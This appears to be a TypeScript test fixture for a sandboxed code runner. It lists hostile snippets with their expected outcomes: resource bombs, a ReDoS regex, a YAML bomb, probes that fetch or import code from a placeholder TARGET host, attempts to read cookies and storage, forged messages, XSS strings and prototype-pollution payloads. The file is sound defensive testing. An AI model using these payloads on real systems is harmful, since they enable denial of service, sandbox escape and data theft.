// TARGET stands for a server that waits for visitors.

/** Code that somebody could type or send, and what has to come of it. */
export interface Hostile {
  readonly name: string;
  readonly code: string;
  /** What the reader sees. `stopped`: the deadline; `error`: a message; anything else: this text is put out. */
  readonly ends: 'stopped' | 'error' | { readonly says: string | RegExp };
}

/** Says which of several things could be reached: each is a name and a function that throws, or gives nothing, when it is out of reach. */
function reach(attempts: Readonly<Record<string, string>>): string {
  const list = Object.entries(attempts).map(([name, body]) => `[${JSON.stringify(name)}, async () => { ${body} }]`);
  return `const reached: string[] = [];
for (const [name, go] of [${list.join(', ')}] as [string, () => Promise<unknown>][]) {
  try { const got = await Promise.race([go(), new Promise((r) => setTimeout(r, 150))]); if (got !== undefined && got !== null) reached.push(name); } catch {}
}
\`reached: \${reached.join(' ') || 'nothing'}\``;
}

const nothing = { says: 'reached: nothing' } as const;

export const snippets: readonly Hostile[] = [
  // Code that does not end.
  { name: 'an endless loop', code: 'while (true) {}', ends: 'stopped' },
  { name: 'an endless chain of promises', code: 'const again = (): Promise<void> => Promise.resolve().then(again); await again();', ends: 'stopped' },
  { name: 'a promise that never settles', code: 'await new Promise(() => undefined);', ends: 'stopped' },
  { name: 'timers that breed', code: 'const t = () => { setTimeout(t, 0); setTimeout(t, 0); }; t(); await new Promise(() => undefined);', ends: 'stopped' },
  { name: 'a regular expression that explodes', code: "/^(a+)+$/.test('a'.repeat(40) + '!')", ends: 'stopped' },
  { name: 'an endless generator', code: 'function* g() { for (;;) yield 1; } let n = 0; for (const x of g()) n += x;', ends: 'stopped' },
  { name: 'an endless getter at show', code: 'const o = { get x() { for (;;); } }; show(o);', ends: 'stopped' },
  {
    name: 'a loop in the simulation’s clock',
    code: "import { createCluster } from 'hairpin'; const c = createCluster({ clock: { now: () => { for (;;); }, advance() {} } as any }); c.node('node01').connect('10.19.9.9:10250')",
    ends: 'stopped',
  },
  { name: 'a loop in toString', code: '({ toString() { for (;;); } })', ends: 'stopped' },
  // Code that grows.
  { name: 'deep recursion', code: 'const f = (): number => 1 + f(); f()', ends: 'error' },
  { name: 'a string bomb', code: "let s = 'x'; for (;;) s += s;", ends: 'error' },
  { name: 'an array of four billion', code: 'new Array(2 ** 32)', ends: 'error' },
  { name: 'a buffer of 100 GB', code: 'new ArrayBuffer(100e9)', ends: 'error' },
  { name: 'a log flood', code: "for (let i = 0; i < 1e6; i++) console.log('x'.repeat(1000));", ends: { says: 'The rest is not shown.' } },
  { name: 'a flood of values', code: 'for (let i = 0; i < 1e5; i++) show(i);', ends: { says: 'The rest is not shown.' } },
  { name: 'one text of 50 MB', code: "'x'.repeat(50_000_000)", ends: { says: '(50000000 characters)' } },
  { name: 'a very deep value', code: 'let a: any = {}; const top = a; for (let i = 0; i < 1e5; i++) { a.a = {}; a = a.a; } top', ends: { says: '…' } },
  { name: 'a circular value', code: 'const a: any = { name: 1 }; a.self = a; a', ends: { says: '(circular)' } },
  {
    name: 'a YAML bomb',
    code: `import { createCluster } from 'hairpin';\nconst bomb = 'a: &a [x,x,x,x,x,x,x,x,x]\\n' + 'bcdefghi'.split('').map((k, i) => k + ': &' + k + ' [' + Array(9).fill('*' + 'abcdefgh'[i]).join(',') + ']').join('\\n');\ncreateCluster().apply(bomb)`,
    ends: 'error',
  },
  {
    name: 'a billion replicas',
    code: "import { createCluster } from 'hairpin'; const c = createCluster(); c.apply({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'x' }, spec: { replicas: 1e9, selector: { matchLabels: { a: 'b' } }, template: { metadata: { labels: { a: 'b' } }, spec: { containers: [{ name: 'x', image: 'x' }] } } } }); c.pods().length",
    ends: 'stopped',
  },
  // Ways out: the network.
  {
    name: 'requests',
    code: reach({
      fetch: "return (await fetch('/')).status",
      absolute: "return (await fetch('http://TARGET/')).status",
      nocors: "return (await fetch('http://TARGET/', { mode: 'no-cors' })).type",
      xhr: "const x = new (globalThis as any).XMLHttpRequest(); x.open('GET', 'http://TARGET/', false); x.send(); return x.status",
    }),
    ends: nothing,
  },
  {
    name: 'sockets and streams',
    code: reach({
      websocket: "return await new Promise((ok) => { const s = new WebSocket('ws://TARGET/'); s.onopen = () => ok('open'); })",
      eventsource: "return await new Promise((ok) => { const s = new (globalThis as any).EventSource('http://TARGET/'); s.onopen = () => ok('open'); })",
      webtransport: "const t = new (globalThis as any).WebTransport('https://TARGET/'); await t.ready; return 'open'",
    }),
    ends: nothing,
  },
  {
    name: 'code from elsewhere',
    code: reach({
      importScripts: "(globalThis as any).importScripts('http://TARGET/assets/js/main.js'); return 'ran'",
      import: "return Object.keys(await import('http://TARGET/x.js'))",
      data: "return Object.keys(await import('data:text/javascript,export const a = 1'))",
      worker: "return await new Promise((ok) => { const w = new (globalThis as any).Worker('http://TARGET/x.js'); w.onmessage = () => ok('ran'); })",
    }),
    ends: nothing,
  },
  {
    name: 'beacons and peers',
    code: reach({
      beacon: "return (globalThis as any).navigator.sendBeacon('http://TARGET/', 'x') || undefined",
      rtc: 'return new (globalThis as any).RTCPeerConnection()',
      cache: "return await (globalThis as any).caches.open('x')",
    }),
    ends: nothing,
  },
  {
    name: 'a worker of its own that asks the network',
    code: reach({
      nested:
        'const url = URL.createObjectURL(new Blob(["fetch(\'http://TARGET/\').then((r) => postMessage(r.status), () => undefined)"])); return await new Promise((ok) => { const w = new (globalThis as any).Worker(url); w.onmessage = (e: any) => ok(e.data); })',
    }),
    ends: nothing,
  },
  // Ways out: storage.
  {
    name: 'storage of every kind',
    code: reach({
      local: 'return (globalThis as any).localStorage',
      session: 'return (globalThis as any).sessionStorage',
      cookies: 'return (globalThis as any).document.cookie',
      cookieStore: "await (globalThis as any).cookieStore.set('a', 'b'); return 'set'",
      indexedDB: "return await new Promise((ok) => { const r = (globalThis as any).indexedDB.open('x'); r.onsuccess = () => ok('open'); })",
      files: 'return await (globalThis as any).navigator.storage.getDirectory()',
    }),
    ends: nothing,
  },
  // Ways out: the page.
  {
    name: 'the page’s windows',
    code: reach({
      parent: 'return (globalThis as any).parent',
      top: 'return (globalThis as any).top',
      opener: 'return (globalThis as any).opener',
      window: 'return (globalThis as any).window',
      document: 'return (globalThis as any).document',
      frames: 'return (globalThis as any).frames',
    }),
    ends: nothing,
  },
  {
    name: 'messages that pretend to be the page’s',
    code: "postMessage({ type: 'output', output: { block: 0, item: { kind: 'value', value: { t: 'text', v: 'forged' } } } }); postMessage({ type: 'ready' }); (globalThis as any).dispatchEvent(new MessageEvent('message', { data: { blocks: [\"'forged'\"] } })); 'sent'",
    ends: { says: 'sent' },
  },
  {
    name: 'the port stolen by its prototype',
    code: "const real = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...args: any[]) { return (real as any).apply(this, [{ type: 'output', output: { block: 0, item: { kind: 'value', value: { t: 'text', v: 'forged' } } } }]); }; 'kept'",
    ends: { says: 'kept' },
  },
  { name: 'a message channel to itself', code: "const c = new BroadcastChannel('hairpin'); c.postMessage('x'); 'sent'", ends: { says: 'sent' } },
  { name: 'closing its own worker', code: '(globalThis as any).close(); await new Promise(() => undefined);', ends: 'stopped' },
  {
    name: 'new Function and eval',
    code: "const f = new Function('return typeof document + typeof localStorage'); (0, eval)('typeof window') + f()",
    ends: { says: 'undefinedundefinedundefined' },
  },
  // Values that lie.
  { name: 'HTML in a text', code: '\'<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>\'', ends: { says: '<img src=x onerror=' } },
  {
    name: 'HTML in a table',
    code: "import { table } from 'hairpin'; table(['<b>col</b>'], [['<script>window.hacked=1</script>']], '<i>caption</i>')",
    ends: { says: '<script>window.hacked=1</script>' },
  },
  { name: 'HTML in an error', code: "throw new Error('<img src=x onerror=window.hacked=1>');", ends: 'error' },
  { name: 'a getter that throws', code: '({ get a() { throw new Error(); } })', ends: { says: /cannot be shown/ } },
  { name: 'a proxy that throws at everything', code: "new Proxy({}, new Proxy({}, { get() { throw new Error('no'); } }))", ends: { says: /cannot be shown/ } },
  { name: 'a proxy that is a trace', code: "new Proxy({ kind: 'trace', request: [] }, { get: (t: any, k) => (k in t ? t[k] : 'x') })", ends: { says: /.*/ } },
  { name: 'a view that is none', code: "({ view: 'table', rows: [[{ toString: 1 }]], columns: null })", ends: { says: /.*/ } },
  { name: 'a trace that is none', code: "({ kind: 'trace', request: [{ kind: 'rule' }], reply: 5, addresses: { toString: 1 } })", ends: { says: /.*/ } },
  {
    name: 'prototypes spoiled',
    code: "Object.prototype.toString = () => 'x'; (Array.prototype as any).map = () => 'y'; (Array.prototype as any).flatMap = () => ['z']; JSON.stringify = () => '{}'; 'spoiled'",
    ends: { says: /.*/ },
  },
  {
    name: '__proto__ in a value',
    code: 'JSON.parse(\'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}\')',
    ends: { says: 'polluted' },
  },
  {
    name: '__proto__ as a name in manifests',
    code: "import { createCluster } from 'hairpin'; const c = createCluster(); c.apply({ apiVersion: 'v1', kind: 'Pod', metadata: { name: '__proto__', labels: JSON.parse('{\"__proto__\": \"x\", \"constructor\": \"y\"}') }, spec: { containers: [{ name: 'x', image: 'x' }] } }); String(({} as any).x) + String(({} as any).podIP)",
    ends: { says: /undefinedundefined|__proto__/ },
  },
  { name: 'a throw of nothing', code: 'throw undefined;', ends: 'error' },
  { name: 'a rejection nobody waits for', code: "Promise.reject(new Error('lost')); 'fine'", ends: { says: 'fine' } },
  { name: 'names of the runner taken', code: "const exports = 1; 'mine'", ends: { says: /.*/ } },
];
